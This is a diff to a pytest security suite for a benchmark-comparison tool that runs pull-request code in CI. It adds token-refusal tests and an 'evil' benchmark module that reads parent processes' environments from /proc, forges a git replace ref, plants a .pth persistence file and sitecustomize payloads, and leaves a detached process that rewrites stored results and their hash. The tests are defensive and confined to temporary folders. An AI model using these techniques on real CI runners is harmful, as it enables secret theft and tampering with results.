@@ -14,28 +14,37 @@ import re
 import stat
 import subprocess
 import sys
+import time
+from dataclasses import dataclass
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 from conftest import (
     HOSTILE,
+    INJECT_ANCHOR,
     PASSED_SECRET,
     SECRET_VALUE,
     SECRETS,
     FaultRun,
+    abdiff_argv,
     config_id,
+    git,
     git_env,
     one_line,
     run_abdiff,
+    state_dir_of,
     write_suite,
 )
 
 from abdiff.cli import main
+from abdiff.demo import build_demo_repo
+from abdiff.demo.builder import RUNNER_PATH
 from abdiff.launchers.process import worker_environment
 
 SRC = Path(__file__).resolve().parents[1] / "abdiff"
 SUBPROCESS_CALLS = {"run", "Popen", "call", "check_call", "check_output"}
+CI_SCRIPT = SRC.parent / "ci" / "abdiff-ci.sh"
 
 
 def _python_files() -> list[Path]:
@@ -253,15 +262,20 @@ def test_the_targets_variables_and_a_fresh_home(tmp_path: Path) -> None:
     assert env["HOME"] == str(tmp_path)
 
 
-def test_measuring_with_a_write_token_is_refused(tmp_path: Path, faulty_repo: Path) -> None:
-    """GITHUB_TOKEN in the measuring process: exit 2, one line, before any checkout."""
+@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "GH_TOKEN", "ACTIONS_RUNTIME_TOKEN",
+                                  "HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_SERVICE_API_KEY"])
+def test_measuring_with_a_secret_is_refused(tmp_path: Path, faulty_repo: Path, name: str) -> None:
+    """A token in the measuring process: exit 2, one line naming it and the next step, before
+    any checkout."""
     suite = write_suite(tmp_path / "s.yaml", [1])
     env = git_env()
-    env["GITHUB_TOKEN"] = "ghs_write"
+    env[name] = "s3cr3t"
     proc = run_abdiff("main..pr", "--configs", suite, "--repo", faulty_repo,
                       "--cache-dir", tmp_path / "cache", env=env)
     assert proc.returncode == 2, proc.stderr
-    assert "GITHUB_TOKEN is set" in one_line(proc.stderr)
+    line = one_line(proc.stderr)
+    assert f"{name} (in abdiff's environment)" in line
+    assert f"unset {name} for the measuring step" in line and "s3cr3t" not in line
     assert not (tmp_path / "cache").exists()
 
 
@@ -321,3 +335,272 @@ def test_hostile_error_line_is_clean_in_the_terminal_table(
     out = capsys.readouterr().out
     assert "DG_HOST_ASSERT failed: <script>" in out  # shown, as text
     assert "\x1b" not in out
+
+
+# ---------------------------------------------------------------- a pull request as an attacker
+#
+# The `evil` commit's benchmark does, in every worker, what issue 35 found PR code could do:
+# read every ancestor's environment, make main's sha stand for another commit (a replace
+# ref in the shared .git), append code to main's cached checkout (for main's next round),
+# leave a .pth file in a writable folder on its sys.path, and leave a process behind that
+# rewrites main's stored rounds and their hash once abdiff is done.
+# The `payload` commit is what the replace ref points main at: it says when it runs.
+
+CANARY = "abdiff-test-canary-4f1d"
+FORGED_US = 123456.0
+EVIL_MODULE = "tinyllm/tools/layer_wise_benchmarks/evil.py"
+EVIL_PY = '''\\
+"""A pull request's benchmark written by an attacker (abdiff's tests)."""
+import hashlib
+import json
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+LOOT = Path({loot!r})
+GIT_DIR, MAIN, PAYLOAD, RUNNER = {git_dir!r}, {main!r}, {payload!r}, {runner!r}
+
+
+def ancestors_environ():
+    found, pid = {{}}, os.getppid()
+    while pid > 0:
+        try:
+            found[pid] = Path(f"/proc/{{pid}}/environ").read_bytes().decode(errors="replace")
+        except OSError as exc:
+            found[pid] = repr(exc)
+        try:
+            pid = int(Path(f"/proc/{{pid}}/stat").read_text().rsplit(")", 1)[1].split()[1])
+        except (OSError, IndexError, ValueError):
+            break
+    return found
+
+
+def forge_later(state_dir):
+    """A process that outlives the worker and abdiff, then rewrites A's rounds and their hash."""
+    if os.fork():
+        return
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    null = os.open(os.devnull, os.O_RDWR)
+    for fd in (0, 1, 2):
+        os.dup2(null, fd)
+    state_file, deadline = state_dir / "state.json", time.time() + 120
+    while time.time() < deadline:
+        try:
+            if json.loads(state_file.read_text()).get("complete"):
+                break
+        except (OSError, ValueError):
+            pass
+        time.sleep(0.05)
+    time.sleep(1.0)  # abdiff has written its last state and exited
+    run_a = json.loads((state_dir / "a.json").read_text())
+    for config in run_a["configs"]:
+        for record in config["rounds"]:
+            record["latency_us"] = [{forged}] * len(record.get("latency_us") or [1])
+    (state_dir / "a.json").write_text(json.dumps(run_a))
+    state = json.loads(state_file.read_text())
+    state["files"]["a.json"] = hashlib.sha256((state_dir / "a.json").read_bytes()).hexdigest()
+    state_file.write_text(json.dumps(state))
+    (LOOT / "forged").write_text("done")
+    os._exit(0)
+
+
+def attack():
+    (LOOT / f"environ-{{os.getpid()}}.json").write_text(json.dumps(ancestors_environ()))
+    subprocess.run(["git", "--git-dir", GIT_DIR, "replace", "-f", MAIN, PAYLOAD],
+                   capture_output=True, check=False)
+    for folder in sys.path:  # the test's own environments only: never the developer's
+        if folder.startswith(str(LOOT.parent)) and folder.endswith("site-packages"):
+            Path(folder, "zz_evil.pth").write_text(  # says which environment ran it
+                f"import sys; open({{str(LOOT / 'pth-ran')!r}}, 'a')"
+                ".write(sys.prefix + '\\\\n')\\n")
+            break
+    job = json.loads(Path(sys.argv[-1]).read_text())
+    state_dir = next(p for p in Path(job["record_path"]).parents if (p / "state.json").exists())
+    for runner in (state_dir.parents[1] / "checkouts").glob(f"*/{{MAIN}}/{{RUNNER}}"):
+        with open(runner, "a") as main_runner:  # main's next round runs this, if not restored
+            main_runner.write("\\nimport pathlib; pathlib.Path("
+                              f"{{str(LOOT / 'payload-ran')!r}}).touch()\\n")
+    if not (LOOT / "forger").exists():
+        (LOOT / "forger").touch()
+        forge_later(state_dir)
+'''
+
+
+@dataclass(frozen=True)
+class EvilRepo:
+    path: Path
+    shas: dict[str, str]
+    loot: Path
+
+
+def build_evil_repo(tmp: Path) -> EvilRepo:
+    repo, loot = tmp / "repo", tmp / "loot"
+    loot.mkdir()
+    shas = build_demo_repo(repo)
+    runner = (repo / RUNNER_PATH).read_text(encoding="utf-8")
+    git(repo, "checkout", "-q", "-b", "payload", "main")
+    (repo / RUNNER_PATH).write_text(runner.replace(INJECT_ANCHOR, (
+        f"        import pathlib\n        pathlib.Path({str(loot / 'payload-ran')!r}).touch()\n"
+        + INJECT_ANCHOR)), encoding="utf-8")
+    git(repo, "commit", "-q", "--no-verify", "-am", "what main's sha is made to stand for")
+    shas["payload"] = git(repo, "rev-parse", "HEAD")
+    git(repo, "checkout", "-q", "-b", "evil", "main")
+    (repo / EVIL_MODULE).write_text(EVIL_PY.format(
+        loot=str(loot), git_dir=str(repo / ".git"), main=shas["main"], payload=shas["payload"],
+        runner=RUNNER_PATH, forged=FORGED_US), encoding="utf-8")
+    (repo / RUNNER_PATH).write_text(runner.replace(INJECT_ANCHOR, (
+        "        from tinyllm.tools.layer_wise_benchmarks.evil import attack\n\n"
+        "        attack()\n" + INJECT_ANCHOR)), encoding="utf-8")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "--no-verify", "-m", "a benchmark that attacks the runner")
+    shas["evil"] = git(repo, "rev-parse", "HEAD")
+    git(repo, "checkout", "-q", "main")
+    return EvilRepo(repo, shas, loot)
+
+
+@pytest.fixture(scope="module")
+def evil(tmp_path_factory: pytest.TempPathFactory) -> EvilRepo:
+    return build_evil_repo(tmp_path_factory.mktemp("evil"))
+
+
+def make_venv(folder: Path, paths: list[str]) -> Path:
+    """A virtual environment of its own (the base interpreter, no pip) that imports from
+    `paths`; returns its python."""
+    subprocess.run([getattr(sys, "_base_executable", sys.executable), "-m", "venv",
+                    "--without-pip", str(folder)], check=True, capture_output=True, timeout=120)
+    python = folder / "bin" / "python"
+    site = subprocess.run([python, "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
+                          check=True, capture_output=True, text=True).stdout.strip()
+    Path(site, "abdiff-test-paths.pth").write_text("".join(f"{p}\n" for p in paths))
+    return python
+
+
+def test_a_token_held_by_a_parent_is_refused_before_pr_code_runs(evil: EvilRepo,
+                                                                  tmp_path: Path) -> None:
+    """The old abdiff-ci.sh way: the script keeps GITHUB_TOKEN and starts abdiff without it
+    (`env -u`). The benchmark could read it from the script's /proc/PID/environ, so abdiff
+    refuses (exit 2) naming that process, and the evil benchmark never runs."""
+    suite = write_suite(tmp_path / "s.yaml", [2])
+    env = {**git_env(), "GITHUB_TOKEN": CANARY}
+    script = 'env -u GITHUB_TOKEN "$@"; exit $?'
+    proc = subprocess.run(["bash", "-c", script, "bash", *abdiff_argv(
+        "main..evil", "--configs", suite, "--repo", evil.path, "--cache-dir", tmp_path / "c")],
+        env=env, capture_output=True, text=True, timeout=120, check=False)
+    assert proc.returncode == 2, proc.stderr
+    line = one_line(proc.stderr)
+    assert re.search(r"GITHUB_TOKEN \(in process \d+, bash, above abdiff\)", line), line
+    assert CANARY not in line and not list(evil.loot.glob("environ-*"))
+
+
+@pytest.mark.parametrize("posting", [False, True])
+def test_ci_script_measures_only_without_a_token(evil: EvilRepo, tmp_path: Path,
+                                                 posting: bool) -> None:
+    """abdiff-ci.sh holding GITHUB_TOKEN in its measuring step (or asked to post in it):
+    exit 2 before the benchmark runs."""
+    env = {**git_env(), "GITHUB_TOKEN": CANARY, "ABDIFF_BIN": f"{sys.executable} -m abdiff",
+           "ABDIFF_GH_REPO": "octo/bench", "ABDIFF_PR": "7"}
+    if posting:
+        env["ABDIFF_POST_COMMENT"] = "1"
+    proc = subprocess.run(["bash", str(CI_SCRIPT), "--base", "main", "--head", "evil",
+                           "--repo", str(evil.path), "--out", str(tmp_path / "out")],
+                          env=env, capture_output=True, text=True, timeout=120, check=False)
+    assert proc.returncode == 2, proc.stderr
+    assert ("separate step" if posting else "unset GITHUB_TOKEN for the measuring") in proc.stderr
+    assert not list(evil.loot.glob("environ-*"))
+
+
+def test_python_m_abdiff_from_a_hostile_folder(tmp_path: Path) -> None:
+    """A checkout that carries an `abdiff/` package, a sitecustomize.py and a usercustomize.py
+    (each would write PWNED): `python -m abdiff` from there imports the checkout's abdiff
+    (why the recipe uses -I), `python -I -m abdiff` the installed one, and runs none of it."""
+    pwned = tmp_path / "PWNED"
+    payload = f"import pathlib; pathlib.Path({str(pwned)!r}).touch()\n"
+    hostile = tmp_path / "checkout"
+    (hostile / "abdiff").mkdir(parents=True)
+    for name in ("abdiff/__init__.py", "abdiff/__main__.py", "sitecustomize.py",
+                 "usercustomize.py"):
+        (hostile / name).write_text(payload)
+    env = {**os.environ, "PYTHONPATH": str(hostile)}
+    plain = subprocess.run([sys.executable, "-m", "abdiff", "--version"], cwd=hostile, env=env,
+                           capture_output=True, text=True, timeout=60, check=False)
+    assert pwned.exists()  # the attack is real without -I
+    pwned.unlink()
+    isolated = subprocess.run([sys.executable, "-I", "-m", "abdiff", "--version"], cwd=hostile,
+                              env=env, capture_output=True, text=True, timeout=60, check=False)
+    assert isolated.returncode == 0, isolated.stderr
+    assert isolated.stdout.startswith("abdiff ") and not pwned.exists(), plain.stderr
+
+
+@pytest.mark.slow
+def test_a_pull_request_that_attacks_the_runner(evil: EvilRepo, tmp_path: Path) -> None:
+    """The two-step recipe of docs/ci.md against the `evil` commit, then two later runs.
+
+    Step 1 measures main..evil with no token anywhere above it. Step 2, after every process
+    of step 1 has exited, posts with the token from an install the benchmark did not write
+    (`python -I -m abdiff` from an empty folder). Then `--resume` finds main's rounds forged
+    with a recomputed hash, and a fresh cache finds main's sha replaced in .git."""
+    suite = write_suite(tmp_path / "s.yaml", [2])
+    deps = [p for p in sys.path if p.endswith("site-packages")] + [str(SRC.parent)]
+    measure_python = make_venv(evil.loot.parent / "measure-env", deps)
+    post_python = make_venv(evil.loot.parent / "post-env", [str(SRC.parent)])
+    env = {**git_env(), "HOME": str(tmp_path), "ABDIFF_TEST_CANARY": "plain"}
+    out = tmp_path / "out"
+
+    def measure(cache: Path, *extra: object) -> subprocess.CompletedProcess[str]:
+        argv = [measure_python, "-m", "abdiff", "main..evil", "--configs", suite, "--repo",
+                evil.path, "--cache-dir", cache, "--rounds", 2, "--max-rounds", 2, "--seed", 3,
+                "--prestart", "on", "--json", out / "result.json", *extra]
+        return subprocess.run(
+            [str(a) for a in argv],
+            env=env, capture_output=True, text=True, timeout=300, check=False)
+
+    first = measure(tmp_path / "cache")
+    assert first.returncode in (0, 1), first.stderr
+    # the benchmark did read its ancestors' environments: no token in any (none was in
+    # reach), and abdiff's own blanked for what workers do not get
+    seen = [e for p in evil.loot.glob("environ-*.json") for e in json.loads(p.read_text())
+            .values()]
+    assert any("PATH=" in e for e in seen)
+    assert not any(CANARY in e or "ABDIFF_TEST_CANARY=plain" in e for e in seen)
+    deadline = time.monotonic() + 60
+    while not (evil.loot / "forged").exists() and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert (evil.loot / "forged").exists()  # the leftover process did its work and exited
+
+    # step 2: post (dry run) with the token, from a clean install and an empty folder
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    post = subprocess.run([post_python, "-I", "-m", "abdiff", "comment", "--repo", "octo/bench",
+                           "--pr", "7", "--result", out / "result.json", "--dry-run"], cwd=empty,
+                          env={**env, "GITHUB_TOKEN": CANARY}, capture_output=True, text=True,
+                          timeout=60, check=False)
+    assert post.returncode == 0, post.stderr
+    ran_pth = (evil.loot / "pth-ran").read_text().split()
+    assert "<!-- abdiff -->" in post.stdout and str(post_python.parents[1]) not in ran_pth
+    # the .pth is real: main's later workers ran it, and so does the measuring install with -I
+    (evil.loot / "pth-ran").unlink()
+    subprocess.run([measure_python, "-I", "-c", "pass"], check=True, timeout=60)
+    assert set((evil.loot / "pth-ran").read_text().split()) == {str(measure_python.parents[1])}
+
+    # main's stored rounds forged with their hash: re-measured, and said so
+    again = measure(tmp_path / "cache", "--resume")
+    assert again.returncode in (0, 1), again.stderr
+    assert "fail authentication" in again.stderr and "measuring anew" in again.stderr
+    state = state_dir_of(again.stderr)
+    rounds = json.loads((state / "a.json").read_text())["configs"][0]["rounds"]
+    assert rounds and all(FORGED_US not in r["latency_us"] for r in rounds)
+
+    # main's sha replaced by the payload commit in .git: a fresh cache still runs main
+    assert git(evil.path, "show", f"{evil.shas['main']}:{RUNNER_PATH}").count("payload-ran")
+    fresh = measure(tmp_path / "fresh-cache")
+    assert fresh.returncode in (0, 1), fresh.stderr
+    assert not (evil.loot / "payload-ran").exists()
+    result = json.loads((out / "result.json").read_text())
+    assert result["a"]["sha"] == evil.shas["main"]
+    checkout_a = tmp_path / "fresh-cache" / "checkouts"
+    runner_a = next(checkout_a.glob(f"*/{evil.shas['main']}")) / RUNNER_PATH
+    assert "payload-ran" not in runner_a.read_text()
